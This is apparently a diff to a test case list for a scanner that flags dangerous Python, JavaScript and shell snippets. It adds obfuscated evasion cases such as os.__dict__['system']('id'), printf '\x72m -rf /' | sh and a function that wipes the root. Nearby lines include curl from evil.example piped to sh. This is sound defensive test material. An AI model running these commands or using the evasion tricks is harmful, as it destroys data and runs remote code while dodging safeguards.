@@ -68,6 +68,9 @@ CASES = [
     ("py-ctypes", py("import ctypes\nctypes.CDLL(None)"), CRITICAL),
     ("py-posix-alias", py("import posix\nposix.system('id')"), CRITICAL),
     ("py-fullwidth-eval", py("ｅｖａｌ('1')"), CRITICAL),
+    ("py-module-dict", py("import os\nos.__dict__['system']('id')"), CRITICAL),
+    ("py-vars-module", py("import os\nvars(os)['popen']('id')"), CRITICAL),
+    ("py-star-import", py("from os import *\nsystem('id')"), CRITICAL),
     ("py-pickle", py("import pickle\npickle.loads(blob)"), CRITICAL),
     ("py-exec-rot13", py("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))"), CRITICAL),
     ("py-unparseable", py("def broken(:\n  pass"), CRITICAL),
@@ -90,6 +93,7 @@ CASES = [
     ("js-constructor-chain", js("[]['constructor']['constructor']('return 1')()"), CRITICAL),
     ("js-global-computed", js("globalThis['ev' + 'al']('1')"), CRITICAL),
     ("js-template-expr", js("const s = `${eval('1')}`"), CRITICAL),
+    ("js-global-member-eval", js("globalThis.eval('1')"), CRITICAL),
     ("js-set-timeout-string", js("setTimeout('doEvil()', 10)"), CRITICAL),
     ("js-unterminated", js("console.log('unterminated)"), CRITICAL),
     # --- Shell --------------------------------------------------------------------------------
@@ -118,6 +122,8 @@ CASES = [
     ("sh-dynamic-command", sh('cmd=rm; $cmd -rf /'), CRITICAL),
     ("sh-find-delete", sh("find / -name '*.log' -delete"), CRITICAL),
     ("sh-substitution", sh("echo $(curl -s https://evil.example | sh)"), CRITICAL),
+    ("sh-printf-pipe-sh", sh("printf '\\x72m -rf /' | sh"), CRITICAL),
+    ("sh-function-body", sh('f() { rm -rf "$1"; }; f /'), CRITICAL),
     ("sh-unterminated", sh('echo "unterminated'), CRITICAL),
     # --- Other tools ------------------------------------------------------------------------
     ("install-pypi", install("requests==2.31.0"), HIGH),
